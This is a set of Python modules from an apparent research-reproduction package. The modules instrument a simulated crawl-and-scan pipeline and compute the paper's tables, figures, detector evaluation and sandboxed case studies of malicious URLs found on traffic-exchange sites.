from .report import build_run_report, render_run_report_markdown
from .tracing import Span, Tracer

__all__ = [
    "Clock",
    "Counter",
    "EventLog",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "MonotonicClock",
    "NULL_OBSERVER",
    "NullObserver",
    "RunObserver",
    "SimClock",
    "Span",
    "Tracer",
    "build_run_report",
    "default_latency_buckets",
    "render_run_report_markdown",
]
