"""Observability: metrics, tracing, and structured run telemetry.

The crawl-and-scan pipeline is instrumented end to end — HTTP client,
crawlers, detection engines, JS sandbox — behind one opt-in hook::

    from repro.obs import RunObserver
    from repro.crawler import CrawlPipeline

    observer = RunObserver()
    pipeline = CrawlPipeline(web, observer=observer)
    outcome = pipeline.run()

    from repro.obs import build_run_report, render_run_report_markdown
    report = build_run_report(pipeline, outcome)       # JSON-ready dict
    print(render_run_report_markdown(report))          # human summary

With no observer attached every hook is a single ``is not None`` test:
pipeline outputs are byte-identical to an unobserved run.

Three companion layers sit on top of the observer:

- :mod:`repro.obs.provenance` — the per-URL verdict flight recorder
  (``CrawlPipeline(record_provenance=True)``, rendered by
  ``repro explain <url>``);
- :mod:`repro.obs.export` — Chrome-trace-format span export with
  per-shard scanexec tracks (``repro obs-report --trace-out``);
- :mod:`repro.obs.diff` — structural run-report diffing for regression
  gates (``repro obs-diff baseline.json candidate.json``);
- :mod:`repro.obs.live` — streaming in-flight telemetry: sliding-window
  time series, phase/shard heartbeats, a stall/storm/drift watchdog,
  and the JSON-lines status sink ``repro watch`` tails
  (``CrawlPipeline(PipelineOptions(status_path=...))``), plus an
  OpenMetrics text export (``repro obs-report --openmetrics-out``).
"""

from .clock import Clock, MonotonicClock, SimClock
from .diff import DiffConfig, DiffEntry, RunDiff, diff_reports
from .events import EventLog
from .export import (
    build_chrome_trace,
    critical_path_summary,
    render_openmetrics,
    write_chrome_trace,
    write_openmetrics,
)
from .live import (
    HealthFinding,
    LiveRunState,
    LiveTelemetry,
    TimeSeries,
    TimeSeriesStore,
    Watchdog,
    fold_status_lines,
    load_status_snapshot,
    parse_status_text,
    render_status_text,
)
from .metrics import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    default_count_buckets,
    default_latency_buckets,
)
from .observer import NULL_OBSERVER, NullObserver, RunObserver
from .profile import (
    BudgetEntry,
    BudgetResult,
    MemoryLedger,
    PhaseMemory,
    WorkLedger,
    WorkProfiler,
    build_budget,
    check_budget,
    render_budget_table,
    render_work_table,
)
from .provenance import (
    ProvenanceStore,
    StageRecord,
    VerdictProvenance,
    render_provenance,
)
from .report import attach_status_section, build_run_report, render_run_report_markdown
from .tracing import Span, Tracer

__all__ = [
    "BudgetEntry",
    "BudgetResult",
    "Clock",
    "Counter",
    "DiffConfig",
    "DiffEntry",
    "EventLog",
    "Gauge",
    "HealthFinding",
    "Histogram",
    "LiveRunState",
    "LiveTelemetry",
    "MemoryLedger",
    "MetricsRegistry",
    "MonotonicClock",
    "NULL_OBSERVER",
    "NullObserver",
    "PhaseMemory",
    "ProvenanceStore",
    "RunDiff",
    "RunObserver",
    "SimClock",
    "Span",
    "StageRecord",
    "TimeSeries",
    "TimeSeriesStore",
    "Tracer",
    "VerdictProvenance",
    "Watchdog",
    "WorkLedger",
    "WorkProfiler",
    "attach_status_section",
    "build_budget",
    "build_chrome_trace",
    "build_run_report",
    "check_budget",
    "critical_path_summary",
    "default_count_buckets",
    "default_latency_buckets",
    "diff_reports",
    "fold_status_lines",
    "load_status_snapshot",
    "parse_status_text",
    "render_budget_table",
    "render_openmetrics",
    "render_provenance",
    "render_run_report_markdown",
    "render_status_text",
    "render_work_table",
    "write_chrome_trace",
    "write_openmetrics",
]
