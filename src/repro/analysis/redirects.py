"""Redirection analysis (Figures 4, 5, 9).

* :func:`redirect_count_distribution` — the Figure 5 histogram: for each
  malicious URL that redirects, how many hops before the destination,
* :func:`example_chain` — a Figure 4 style chain extracted from the HAR
  logs (hop URLs + mechanisms),
* :func:`probe_rotating_redirector` — the Figure 9 experiment: request a
  redirector repeatedly and collect the distinct targets it rotates
  through.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..httpsim import SimHttpClient

__all__ = [
    "RedirectDistribution",
    "redirect_count_distribution",
    "example_chain",
    "probe_rotating_redirector",
]


@dataclass
class RedirectDistribution:
    """URL counts per redirection count (Figure 5's bars)."""

    counts: Counter = field(default_factory=Counter)

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    def bars(self, max_hops: int = 7) -> List[Tuple[int, int]]:
        return [(hops, self.counts.get(hops, 0)) for hops in range(1, max_hops + 1)]

    @property
    def max_observed(self) -> int:
        return max(self.counts) if self.counts else 0


def redirect_count_distribution(dataset: CrawlDataset, outcome: ScanOutcome,
                                distinct: bool = True) -> RedirectDistribution:
    """Figure 5: distribution of redirection counts of malicious URLs."""
    result = RedirectDistribution()
    seen = set()
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR or record.role == "hop":
            continue
        if record.redirect_count < 1 or not outcome.is_malicious(record.url):
            continue
        if distinct:
            if record.url in seen:
                continue
            seen.add(record.url)
        result.counts[record.redirect_count] += 1
    return result


def example_chain(dataset: CrawlDataset, outcome: ScanOutcome,
                  min_hops: int = 3) -> Optional[List[str]]:
    """A Figure 4 style example: the URLs of one long malicious chain."""
    best: Optional[List[str]] = None
    for exchange, log in dataset.har_logs.items():
        for entry in log.entries:
            if not entry.redirect_location:
                continue
            if not outcome.is_malicious(entry.url):
                continue
            chain_entries = log.redirect_chain(entry.url)
            if len(chain_entries) - 1 >= min_hops:
                chain = [e.url for e in chain_entries]
                if chain_entries[-1].redirect_location:
                    chain.append(chain_entries[-1].redirect_location)
                if best is None or len(chain) > len(best):
                    best = chain
    return best


def probe_rotating_redirector(client: SimHttpClient, url: str,
                              probes: int = 8) -> List[str]:
    """Figure 9: fetch ``url`` repeatedly; collect distinct final URLs."""
    targets: List[str] = []
    for _ in range(probes):
        result = client.fetch(url)
        if result.final_url not in targets:
            targets.append(result.final_url)
    return targets
