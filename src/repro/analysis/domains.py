"""Per-exchange domain statistics (Table II).

Aggregates the regular URLs of each exchange by registrable domain and
counts domains with at least one malicious URL.  Benign infrastructure
domains (ajax.googleapis.com and friends) stay in — Table II explicitly
keeps them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Set

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..simweb.url import Url

__all__ = ["ExchangeDomainStats", "compute_domain_stats", "domains_on_multiple_exchanges"]


@dataclass
class ExchangeDomainStats:
    """One row of Table II."""

    exchange: str
    domains: int = 0
    malware_domains: int = 0
    domain_set: Set[str] = field(default_factory=set, repr=False)
    malware_domain_set: Set[str] = field(default_factory=set, repr=False)

    @property
    def malware_fraction(self) -> float:
        return self.malware_domains / self.domains if self.domains else 0.0


def compute_domain_stats(dataset: CrawlDataset, outcome: ScanOutcome) -> List[ExchangeDomainStats]:
    """Build Table II rows."""
    rows: Dict[str, ExchangeDomainStats] = {}
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR:
            continue
        parsed = Url.try_parse(record.url)
        if parsed is None:
            continue
        row = rows.get(record.exchange)
        if row is None:
            row = ExchangeDomainStats(exchange=record.exchange)
            rows[record.exchange] = row
        domain = parsed.registrable_domain
        row.domain_set.add(domain)
        if outcome.is_malicious(record.url):
            row.malware_domain_set.add(domain)
    for row in rows.values():
        row.domains = len(row.domain_set)
        row.malware_domains = len(row.malware_domain_set)
    return list(rows.values())


def domains_on_multiple_exchanges(rows: List[ExchangeDomainStats],
                                  min_exchanges: int = 5) -> List[str]:
    """Domains seen across many exchanges (the visadd.com observation)."""
    counts: Dict[str, int] = {}
    for row in rows:
        for domain in row.domain_set:
            counts[domain] = counts.get(domain, 0) + 1
    return sorted(d for d, c in counts.items() if c >= min_exchanges)
