"""Malware categorization (Table III).

Section IV-A's rules, applied to every malicious URL instance:

1. URLs on shortening services → **malicious shortened URLs** (checked
   first so a short URL's own redirect does not shadow the category),
2. initial URL != final URL (cross-site) → **suspicious redirection**,
3. ``.js`` extension → **malicious JavaScript**, ``.swf`` → **malicious
   Flash**,
4. domain on more than one blacklist → **blacklisted**,
5. anything without enough detail → **miscellaneous** (the paper's
   142,405-URL bucket, excluded from Table III's percentages).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..detection.blacklists import BlacklistSet
from ..malware.taxonomy import MalwareCategory
from ..simweb.shortener import SHORTENER_HOSTS
from ..simweb.url import Url

__all__ = ["CategorizationResult", "categorize_url", "categorize_dataset"]


@dataclass
class CategorizationResult:
    """Counts per category over malicious URL instances."""

    counts: Dict[MalwareCategory, int] = field(default_factory=dict)
    total_malicious: int = 0

    def count(self, category: MalwareCategory) -> int:
        return self.counts.get(category, 0)

    @property
    def categorized_total(self) -> int:
        """Total excluding miscellaneous (Table III's denominator)."""
        return self.total_malicious - self.count(MalwareCategory.MISCELLANEOUS)

    def percentage(self, category: MalwareCategory) -> float:
        """Share of the *categorized* URLs, as Table III reports."""
        denominator = self.categorized_total
        if denominator == 0 or category is MalwareCategory.MISCELLANEOUS:
            return 0.0
        return 100.0 * self.count(category) / denominator

    def table_rows(self) -> List[tuple]:
        order = (
            MalwareCategory.BLACKLISTED,
            MalwareCategory.MALICIOUS_JAVASCRIPT,
            MalwareCategory.SUSPICIOUS_REDIRECTION,
            MalwareCategory.MALICIOUS_SHORTENED_URL,
            MalwareCategory.MALICIOUS_FLASH,
        )
        return [(category, self.percentage(category)) for category in order]


def categorize_url(
    url: str,
    blacklists: BlacklistSet,
    final_url: str = "",
    shortener_hosts: Iterable[str] = SHORTENER_HOSTS,
) -> MalwareCategory:
    """Assign a single (already detected) URL to a Table III category."""
    parsed = Url.try_parse(url)
    if parsed is None:
        return MalwareCategory.MISCELLANEOUS
    if parsed.host in set(shortener_hosts):
        return MalwareCategory.MALICIOUS_SHORTENED_URL
    if final_url:
        final = Url.try_parse(final_url)
        if final is not None and not parsed.same_site(final):
            return MalwareCategory.SUSPICIOUS_REDIRECTION
    extension = parsed.extension
    if extension == "js":
        return MalwareCategory.MALICIOUS_JAVASCRIPT
    if extension == "swf":
        return MalwareCategory.MALICIOUS_FLASH
    if blacklists.is_blacklisted(parsed, min_hits=2):
        return MalwareCategory.BLACKLISTED
    return MalwareCategory.MISCELLANEOUS


def categorize_dataset(
    dataset: CrawlDataset,
    outcome: ScanOutcome,
    blacklists: BlacklistSet,
) -> CategorizationResult:
    """Categorize every malicious regular URL instance in the dataset."""
    result = CategorizationResult()
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR:
            continue
        if not outcome.is_malicious(record.url):
            continue
        category = categorize_url(
            record.url, blacklists, final_url=record.final_url
        )
        result.counts[category] = result.counts.get(category, 0) + 1
        result.total_malicious += 1
    return result
