"""Drill-down case studies (Section V).

Tools the analyst uses on flagged URLs to understand *why* they are
malicious — and to expose false positives:

* :func:`iframe_case_studies` — classify every hidden-iframe finding on
  flagged pages into the three Section V-A mechanisms,
* :func:`deceptive_download_case` — run a flagged page in the sandbox,
  simulate the click, and report the executable it tries to deliver,
* :func:`flash_case_study` — decompile a flagged SWF and trace its
  ExternalInterface calls through the JS bridge,
* :func:`identify_false_positives` — re-examine flagged URLs and return
  those whose only indicators are trusted-platform patterns (the Google
  OAuth relay and Google Analytics mislabels of Section V-E).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset
from ..detection.heuristics import analyze_content
from ..flashsim import DecompiledSwf, SwfFile, decompile_bytes
from ..jsengine import run_script_in_page

__all__ = [
    "IframeCaseStudy",
    "DownloadCaseStudy",
    "FlashCaseStudy",
    "FalsePositiveFinding",
    "iframe_case_studies",
    "deceptive_download_case",
    "flash_case_study",
    "identify_false_positives",
]


@dataclass
class IframeCaseStudy:
    url: str
    mechanism: str  # "tiny" | "visibility" | "transparency" | "offscreen"
    injected_by_js: bool
    exfiltrates_query: bool
    frame_src: str


@dataclass
class DownloadCaseStudy:
    url: str
    payload_url: str
    payload_name: str
    triggered_by_click: bool


@dataclass
class FlashCaseStudy:
    url: str
    external_calls: List[str]
    invisible_overlay: bool
    allows_any_domain: bool
    popups_after_click: List[str]
    decompiled_source: str


@dataclass
class FalsePositiveFinding:
    url: str
    reason: str  # "google-oauth-relay" | "google-analytics"
    labels: List[str] = field(default_factory=list)


def _flagged_content(dataset: CrawlDataset, outcome: ScanOutcome):
    for url, cached in dataset.content.items():
        verdict = outcome.verdict(url)
        if verdict is not None and verdict.malicious:
            yield url, cached


def iframe_case_studies(dataset: CrawlDataset, outcome: ScanOutcome,
                        limit: int = 50) -> List[IframeCaseStudy]:
    """Classify hidden iframes on flagged pages (Section V-A taxonomy)."""
    out: List[IframeCaseStudy] = []
    for url, cached in _flagged_content(dataset, outcome):
        if not cached.content_type.startswith("text/html"):
            continue
        analysis = analyze_content(cached.content, cached.content_type, url)
        for finding in analysis.hidden_iframes:
            if finding.trusted_host:
                continue
            out.append(IframeCaseStudy(
                url=url,
                mechanism=finding.hidden_by,
                injected_by_js=finding.injected_by_js,
                exfiltrates_query=finding.exfiltrates_query,
                frame_src=finding.src,
            ))
            if len(out) >= limit:
                return out
    return out


def deceptive_download_case(dataset: CrawlDataset, outcome: ScanOutcome) -> Optional[DownloadCaseStudy]:
    """Find a deceptive-download page and reproduce the attack flow."""
    for url, cached in _flagged_content(dataset, outcome):
        if not cached.content_type.startswith("text/html"):
            continue
        host = run_script_in_page(cached.content.decode("utf-8", errors="replace"), url=url)
        triggers = host.log.download_triggers
        if not triggers:
            continue
        payload_url = triggers[0]
        return DownloadCaseStudy(
            url=url,
            payload_url=payload_url,
            payload_name=payload_url.rsplit("/", 1)[-1].split("?")[0],
            triggered_by_click=True,
        )
    return None


def flash_case_study(dataset: CrawlDataset, outcome: ScanOutcome) -> Optional[FlashCaseStudy]:
    """Decompile a flagged SWF and trace its click-jacking behaviour."""
    from ..flashsim import FlashPlayer
    from ..jsengine.hostenv import BrowserHost

    from ..simweb.url import Url

    for url, cached in _flagged_content(dataset, outcome):
        if not SwfFile.sniff(cached.content):
            continue
        decompiled: DecompiledSwf = decompile_bytes(cached.content)
        if not decompiled.calls_external_interface:
            continue
        # replay the attack end-to-end: first run the site's own loader
        # scripts (they define the JS side of the ExternalInterface
        # bridge, obfuscated — Section V-D's 542_mobile3.js), then click
        browser = BrowserHost(url=url)
        swf_host = Url.try_parse(url)
        for other_url, other in dataset.content.items():
            if swf_host is None:
                break
            parsed = Url.try_parse(other_url)
            if parsed is None or parsed.host != swf_host.host:
                continue
            if other.content_type.startswith(("application/javascript", "text/javascript")):
                browser.run_script(other.content.decode("utf-8", errors="replace"))
        player = FlashPlayer(SwfFile.from_bytes(cached.content), browser_host=browser)
        player.load()
        for handler in decompiled.event_handlers:
            player.dispatch(handler)
        return FlashCaseStudy(
            url=url,
            external_calls=[name for name, _ in decompiled.external_calls],
            invisible_overlay=decompiled.transparent_overlay,
            allows_any_domain=decompiled.allows_any_domain,
            popups_after_click=list(browser.log.popups),
            decompiled_source=decompiled.source,
        )
    return None


def identify_false_positives(dataset: CrawlDataset, outcome: ScanOutcome,
                             limit: int = 100) -> List[FalsePositiveFinding]:
    """Section V-E: flagged URLs whose indicators are benign platform
    plumbing — hidden frames from accounts.google.com only, or a
    Faceliker label on a stock Google Analytics loader."""
    findings: List[FalsePositiveFinding] = []
    for url, cached in _flagged_content(dataset, outcome):
        if not cached.content_type.startswith("text/html"):
            continue
        verdict = outcome.verdict(url)
        labels = verdict.labels if verdict is not None else []
        analysis = analyze_content(cached.content, cached.content_type, url)
        untrusted = [f for f in analysis.hidden_iframes if not f.trusted_host]
        trusted = [f for f in analysis.hidden_iframes if f.trusted_host]
        genuinely_bad = (
            untrusted
            or analysis.download_triggers
            or analysis.deceptive_download_bar
            or analysis.redirect_stub
            or analysis.obfuscation_layers >= 1
            or analysis.external_interface_calls
            or (analysis.fingerprinting_listeners >= 2 and analysis.beacons)
        )
        if genuinely_bad:
            continue
        if trusted and any(f.frame_host == "accounts.google.com" for f in trusted):
            findings.append(FalsePositiveFinding(url=url, reason="google-oauth-relay", labels=labels))
        elif any("Faceliker" in label for label in labels):
            findings.append(FalsePositiveFinding(url=url, reason="google-analytics", labels=labels))
        elif any("google-analytics" in s for s in analysis.remote_scripts):
            findings.append(FalsePositiveFinding(url=url, reason="google-analytics", labels=labels))
        if len(findings) >= limit:
            break
    return findings
