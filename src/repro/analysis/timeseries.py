"""Temporal evolution of malicious URLs (Figure 3).

Builds, per exchange, the cumulative count of malicious URLs as a
function of the count of crawled URLs — the exact axes of Figure 3 —
plus burst metrics that quantify the paper's observation that manual-
surf exchanges show bursts (paid campaigns) while auto-surf curves are
smooth and near-linear.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind

__all__ = ["Burst", "MaliciousTimeseries", "burstiness_score", "compute_timeseries", "detect_bursts"]


@dataclass
class MaliciousTimeseries:
    """One exchange's Figure 3 curve."""

    exchange: str
    #: (crawled count, cumulative malicious count) samples, per URL
    points: List[Tuple[int, int]] = field(default_factory=list)

    @property
    def final_malicious(self) -> int:
        return self.points[-1][1] if self.points else 0

    @property
    def crawled(self) -> int:
        return self.points[-1][0] if self.points else 0

    def malicious_flags(self) -> List[int]:
        """Per-URL 0/1 malicious indicators, in crawl order."""
        flags: List[int] = []
        previous = 0
        for _crawled, cumulative in self.points:
            flags.append(cumulative - previous)
            previous = cumulative
        return flags


def compute_timeseries(dataset: CrawlDataset, outcome: ScanOutcome) -> Dict[str, MaliciousTimeseries]:
    """Figure 3 curves for every exchange (regular URLs, crawl order)."""
    series: Dict[str, MaliciousTimeseries] = {}
    cumulative: Dict[str, int] = {}
    crawled: Dict[str, int] = {}
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR:
            continue
        ts = series.get(record.exchange)
        if ts is None:
            ts = MaliciousTimeseries(exchange=record.exchange)
            series[record.exchange] = ts
            cumulative[record.exchange] = 0
            crawled[record.exchange] = 0
        crawled[record.exchange] += 1
        if outcome.is_malicious(record.url):
            cumulative[record.exchange] += 1
        ts.points.append((crawled[record.exchange], cumulative[record.exchange]))
    return series


@dataclass
class Burst:
    """One contiguous window of elevated malicious rate (a campaign)."""

    start_index: int  # crawl position where the burst begins (1-based)
    end_index: int    # crawl position where it ends (inclusive)
    malicious: int    # malicious URLs inside the window
    rate: float       # malicious rate inside the window

    @property
    def length(self) -> int:
        return self.end_index - self.start_index + 1


def detect_bursts(ts: MaliciousTimeseries, window: int = 40,
                  rate_multiplier: float = 3.0, min_malicious: int = 5) -> List[Burst]:
    """Find campaign-style bursts in a Figure 3 curve.

    A burst is a maximal run of sliding windows whose malicious rate
    exceeds ``rate_multiplier`` times the overall rate.  Auto-surf
    exchanges yield few or no bursts; manual-surf exchanges with paid
    campaigns yield one per campaign window.
    """
    flags = ts.malicious_flags()
    if len(flags) < window:
        return []
    total = sum(flags)
    if total == 0:
        return []
    overall_rate = total / len(flags)
    threshold = overall_rate * rate_multiplier

    bursts: List[Burst] = []
    running = sum(flags[:window])
    in_burst = False
    burst_start = 0
    for index in range(window, len(flags) + 1):
        rate = running / window
        if rate >= threshold and not in_burst:
            in_burst = True
            burst_start = index - window
        elif rate < threshold and in_burst:
            in_burst = False
            start, end = burst_start, index - 1
            malicious = sum(flags[start:end + 1])
            if malicious >= min_malicious:
                bursts.append(Burst(start_index=start + 1, end_index=end + 1,
                                    malicious=malicious,
                                    rate=malicious / (end - start + 1)))
        if index < len(flags):
            running += flags[index] - flags[index - window]
    if in_burst:
        start, end = burst_start, len(flags) - 1
        malicious = sum(flags[start:end + 1])
        if malicious >= min_malicious:
            bursts.append(Burst(start_index=start + 1, end_index=end + 1,
                                malicious=malicious,
                                rate=malicious / (end - start + 1)))
    return bursts


def burstiness_score(ts: MaliciousTimeseries, window: int = 50) -> float:
    """Peak windowed malicious rate over the overall rate.

    ≈1 for a steady (auto-surf) stream; large for bursty (campaign
    driven, manual-surf) streams.  Returns 0 when nothing is malicious.
    """
    flags = ts.malicious_flags()
    total = sum(flags)
    if total == 0 or len(flags) < window:
        return 0.0
    overall_rate = total / len(flags)
    running = sum(flags[:window])
    peak = running
    for index in range(window, len(flags)):
        running += flags[index] - flags[index - window]
        peak = max(peak, running)
    peak_rate = peak / window
    return peak_rate / overall_rate if overall_rate else 0.0
