"""Detector evaluation against generator ground truth.

The measurement pipeline never sees ground truth; this module is the
*evaluation harness* that grades it afterwards — the reproduction
analogue of the paper validating its tools against a gold standard.
Produces overall and per-family precision/recall, and the confusion
summary used by the ablation analysis.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..simweb.generator import GeneratedWeb
from ..simweb.site import MalwareFamily
from ..simweb.url import Url

__all__ = ["DetectionScore", "FamilyScore", "EvaluationReport", "evaluate_detection"]


@dataclass
class DetectionScore:
    """Binary-classification counts with derived metrics."""

    true_positives: int = 0
    false_positives: int = 0
    false_negatives: int = 0
    true_negatives: int = 0

    @property
    def total(self) -> int:
        return (self.true_positives + self.false_positives
                + self.false_negatives + self.true_negatives)

    @property
    def precision(self) -> float:
        denominator = self.true_positives + self.false_positives
        return self.true_positives / denominator if denominator else 0.0

    @property
    def recall(self) -> float:
        denominator = self.true_positives + self.false_negatives
        return self.true_positives / denominator if denominator else 0.0

    @property
    def f1(self) -> float:
        p, r = self.precision, self.recall
        return 2 * p * r / (p + r) if (p + r) else 0.0


@dataclass
class FamilyScore:
    """Recall per ground-truth malware family (URLs of that family)."""

    family: MalwareFamily
    detected: int = 0
    missed: int = 0

    @property
    def recall(self) -> float:
        total = self.detected + self.missed
        return self.detected / total if total else 0.0


@dataclass
class EvaluationReport:
    """Full grading of one study run."""

    overall: DetectionScore = field(default_factory=DetectionScore)
    by_family: Dict[MalwareFamily, FamilyScore] = field(default_factory=dict)
    #: benign URLs that were flagged, for FP drill-down
    false_positive_urls: List[str] = field(default_factory=list)
    #: malicious URLs that were missed, for FN drill-down
    false_negative_urls: List[str] = field(default_factory=list)

    def family_recall(self, family: MalwareFamily) -> float:
        score = self.by_family.get(family)
        return score.recall if score is not None else 0.0

    def summary_rows(self) -> List[tuple]:
        rows = [("overall", self.overall.precision, self.overall.recall, self.overall.f1)]
        for family, score in sorted(self.by_family.items(), key=lambda kv: kv[0].value):
            rows.append((family.value, float("nan"), score.recall, float("nan")))
        return rows


def _family_of_url(web: GeneratedWeb, url: Url) -> Optional[MalwareFamily]:
    site = web.registry.site(url.host)
    if site is None:
        return None
    page, resource = site.lookup(url.path)
    if page is not None and page.truth.family is not None:
        return page.truth.family
    if resource is not None and resource.truth.family is not None:
        return resource.truth.family
    return site.truth.family


def evaluate_detection(
    web: GeneratedWeb,
    dataset: CrawlDataset,
    outcome: ScanOutcome,
    max_examples: int = 50,
) -> EvaluationReport:
    """Grade the scan outcome against ground truth, per distinct URL."""
    report = EvaluationReport()
    for url_text in dataset.distinct_urls(kind=RecordKind.REGULAR):
        url = Url.try_parse(url_text)
        if url is None:
            continue
        truth = web.registry.truth_for_url(url)
        if truth is None:
            continue  # shortener hosts / unknown: no defined truth
        flagged = outcome.is_malicious(url_text)
        if truth and flagged:
            report.overall.true_positives += 1
        elif truth and not flagged:
            report.overall.false_negatives += 1
            if len(report.false_negative_urls) < max_examples:
                report.false_negative_urls.append(url_text)
        elif not truth and flagged:
            report.overall.false_positives += 1
            if len(report.false_positive_urls) < max_examples:
                report.false_positive_urls.append(url_text)
        else:
            report.overall.true_negatives += 1

        if truth:
            family = _family_of_url(web, url)
            if family is not None:
                score = report.by_family.get(family)
                if score is None:
                    score = FamilyScore(family=family)
                    report.by_family[family] = score
                if flagged:
                    score.detected += 1
                else:
                    score.missed += 1
    return report
