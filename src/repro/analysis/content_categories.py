"""Content-category distribution of malicious URLs (Figure 7).

Uses the content category VirusTotal reported for each malicious URL
(inferred from the page's topic vocabulary), as the paper does.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import List, Tuple

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind

__all__ = ["ContentCategoryDistribution", "compute_content_categories"]


@dataclass
class ContentCategoryDistribution:
    """Share of malicious URLs per reported content category."""

    counts: Counter = field(default_factory=Counter)

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    def percentage(self, category: str) -> float:
        return 100.0 * self.counts.get(category, 0) / self.total if self.total else 0.0

    def ranked(self) -> List[Tuple[str, float]]:
        return [(cat, self.percentage(cat)) for cat, _ in self.counts.most_common()]


def compute_content_categories(dataset: CrawlDataset,
                               outcome: ScanOutcome) -> ContentCategoryDistribution:
    """Histogram malicious URL instances by VT-reported category.

    URLs whose report carried no category (sub-resources, raw files)
    inherit nothing and are skipped — like the paper, the figure covers
    URLs the tools categorized.
    """
    result = ContentCategoryDistribution()
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR or not outcome.is_malicious(record.url):
            continue
        verdict = outcome.verdict(record.url)
        if verdict is None or not verdict.content_category:
            continue
        result.counts[verdict.content_category] += 1
    return result
