"""Detection-alias analysis.

Sections IV-A and V quote the alias names the scanning engines reported
per malware category — ``Script.virus`` / ``Virus.ScrInject.JS`` for
malicious JavaScript, ``Trojan:JS/Redirector`` for redirections,
``BehavesLike.JS.ExploitBlacole.*`` for Flash, ``HTML/IframeRef.gen`` /
``Mal_Hifrm`` for iframe injections.  This module aggregates the
verdict labels the pipeline actually produced, per Table III category —
the data behind those drill-down statements.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..detection.blacklists import BlacklistSet
from ..malware.taxonomy import MalwareCategory
from .categorize import categorize_url

__all__ = ["AliasDistribution", "compute_alias_distribution"]


@dataclass
class AliasDistribution:
    """Verdict-label frequencies per Table III category."""

    by_category: Dict[MalwareCategory, Counter] = field(default_factory=dict)

    def top(self, category: MalwareCategory, count: int = 5) -> List[Tuple[str, int]]:
        counter = self.by_category.get(category)
        return counter.most_common(count) if counter else []

    def labels(self, category: MalwareCategory) -> List[str]:
        counter = self.by_category.get(category)
        return sorted(counter) if counter else []

    def render(self, per_category: int = 4) -> str:
        lines: List[str] = []
        for category in MalwareCategory:
            entries = self.top(category, per_category)
            if not entries:
                continue
            lines.append("%s:" % category.value)
            for label, count in entries:
                lines.append("    %-44s %d" % (label, count))
        return "\n".join(lines)


def compute_alias_distribution(
    dataset: CrawlDataset,
    outcome: ScanOutcome,
    blacklists: BlacklistSet,
    distinct: bool = True,
) -> AliasDistribution:
    """Aggregate the verdict labels of malicious URLs per category."""
    result = AliasDistribution()
    seen = set()
    for record in dataset.records:
        if record.kind != RecordKind.REGULAR:
            continue
        if distinct:
            if record.url in seen:
                continue
            seen.add(record.url)
        verdict = outcome.verdict(record.url)
        if verdict is None or not verdict.malicious:
            continue
        category = categorize_url(record.url, blacklists, final_url=record.final_url)
        counter = result.by_category.get(category)
        if counter is None:
            counter = Counter()
            result.by_category[category] = counter
        for label in verdict.labels:
            counter[label] += 1
    return result
