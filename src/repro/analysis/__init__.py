"""Analysis pipeline: rebuilds every table and figure from crawl data.

* Table I / Figure 2 — :mod:`repro.analysis.exchange_stats`
* Table II — :mod:`repro.analysis.domains`
* Table III — :mod:`repro.analysis.categorize`
* Table IV — :mod:`repro.analysis.shortener_stats`
* Figure 3 — :mod:`repro.analysis.timeseries`
* Figures 4/5/9 — :mod:`repro.analysis.redirects`
* Figure 6 — :mod:`repro.analysis.tld`
* Figure 7 — :mod:`repro.analysis.content_categories`
* Section V case studies — :mod:`repro.analysis.casestudies`
"""

from .casestudies import (
    DownloadCaseStudy,
    FalsePositiveFinding,
    FlashCaseStudy,
    IframeCaseStudy,
    deceptive_download_case,
    flash_case_study,
    identify_false_positives,
    iframe_case_studies,
)
from .aliases import AliasDistribution, compute_alias_distribution
from .categorize import CategorizationResult, categorize_dataset, categorize_url
from .content_categories import ContentCategoryDistribution, compute_content_categories
from .evaluation import (
    DetectionScore,
    EvaluationReport,
    FamilyScore,
    evaluate_detection,
)
from .domains import ExchangeDomainStats, compute_domain_stats, domains_on_multiple_exchanges
from .exchange_stats import ExchangeUrlStats, compute_exchange_stats, overall_malicious_fraction
from .redirects import (
    RedirectDistribution,
    example_chain,
    probe_rotating_redirector,
    redirect_count_distribution,
)
from .shortener_stats import ShortUrlRow, compute_shortener_stats
from .timeseries import Burst, MaliciousTimeseries, burstiness_score, compute_timeseries, detect_bursts
from .tld import TldDistribution, compute_tld_distribution

__all__ = [
    "AliasDistribution",
    "CategorizationResult",
    "DetectionScore",
    "EvaluationReport",
    "FamilyScore",
    "evaluate_detection",
    "ContentCategoryDistribution",
    "DownloadCaseStudy",
    "ExchangeDomainStats",
    "ExchangeUrlStats",
    "FalsePositiveFinding",
    "FlashCaseStudy",
    "IframeCaseStudy",
    "MaliciousTimeseries",
    "RedirectDistribution",
    "ShortUrlRow",
    "TldDistribution",
    "Burst",
    "burstiness_score",
    "compute_alias_distribution",
    "detect_bursts",
    "categorize_dataset",
    "categorize_url",
    "compute_content_categories",
    "compute_domain_stats",
    "compute_exchange_stats",
    "compute_shortener_stats",
    "compute_timeseries",
